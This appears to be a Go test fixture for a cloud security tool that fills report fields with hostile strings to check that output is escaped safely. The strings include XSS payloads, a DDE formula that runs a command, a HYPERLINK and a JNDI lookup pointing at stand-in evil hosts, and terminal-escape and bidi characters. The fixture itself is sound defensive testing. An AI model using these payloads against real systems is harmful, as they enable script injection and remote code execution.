package outputtest

import (
	"encoding/json"

	"github.com/stance-sec/stance/internal/action/output"
	"github.com/stance-sec/stance/internal/estate"
)

// Hostile returns texts that an attacker may put into names, tags and policies.
func Hostile() []string {
	return []string{
		`<script>alert("x")</script>`,
		`</script><img src=x onerror=alert(1)>`,
		`"><svg onload=alert(1)>`,
		`=HYPERLINK("http://evil.example","click")`,
		"+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", " =1",
		"\x1b[31mred\x1b]0;title\x07", "\x9b31m", "bell\x07", "null\x00byte", "\u009b2J",
		"right\u202eleft", "zero\u200bwidth", "\u2066isolate\u2069", "line\u2028separator",
		"bad utf8 \xff\xfe", "new\nline\r\nend",
		"a | b | `code` **bold** [link](http://evil.example) ![i](http://evil.example/x.png)",
		"@everyone <!-- comment --> &amp; ]]>", "\ufffe\uffff", "--><script>1</script>",
		"{{.Secret}} ${jndi:ldap://evil} %s %n", "日本語 ünïcode 🦊", "```\nfence\n```", "www.evil.example",
	}
}

// WithHostile returns OneOfEach with hostile texts wherever a cloud or a user writes.
func WithHostile() *Report {
	r := OneOfEach()
	for i, text := range Hostile() {
		f := r.add("aws-s3-bucket-private", estate.Fail, estate.Ref{
			ID: "arn:aws:s3:::" + text, Type: "aws_s3_bucket", Cloud: estate.AWS, Account: "111111111111", Region: "us-east-1", Name: text,
		}, text)
		value, err := json.Marshal(text)
		if err != nil {
			panic(err) // strings always encode
		}
		f.Evidence = []estate.Evidence{{Path: text, Value: value}}
		f.Element = text
		f.Context = &estate.Context{Environment: text, Owner: text}
		u := r.add("aws-s3-bucket-logging", estate.UnknownStatus, f.Resource, text)
		u.Unknown = []estate.Unknown{{Path: text, Reason: estate.Denied, Permission: text, Detail: text}}
		r.Findings[len(r.Findings)-1-i%2].Suppressed = &estate.Suppression{Reason: text, Until: "2027-01-01", By: text}
		if i%3 > 0 {
			r.Findings[len(r.Findings)-1-i%2].Suppressed = nil
		}
		r.Coverage = append(r.Coverage, estate.Coverage{
			Scope:  estate.Scope{Cloud: estate.AWS, Account: text, Region: text, Type: text},
			Status: estate.CoverageFailed, Reason: estate.Denied, Permissions: []string{text}, Detail: text,
		})
	}
	hostileRun(r)
	r.Summary.Priorities = hostileShortList()
	return r.Seal()
}

// hostileRun puts hostile texts into what users and their checks write.
func hostileRun(r *Report) {
	texts := Hostile()
	r.Summary.Calls, r.Summary.Resources = 0, 0
	r.Run.Asked.From = texts[0] + texts[10]
	r.Run.Baseline = texts[1]
	r.Run.Accounts[0].Name = texts[10] + texts[0]
	for _, text := range texts {
		r.Run.Accounts = append(r.Run.Accounts, output.Account{Cloud: estate.AWS, ID: text, Name: text})
	}
	r.Run.Version = texts[2]
	c := &r.Run.Checks[3]
	c.Title, c.Why, c.Fix.Text, c.Fix.CLI, c.Fix.Terraform = texts[0], texts[1]+texts[10], texts[2], texts[27], texts[27]
	c.References = []string{"javascript:alert(1)", "https://ok.example/" + texts[0]}
	r.Run.Frameworks[0].Title = texts[0] + texts[15]
	r.Run.Frameworks[0].Requirements[0].Title = texts[1] + texts[21]
}
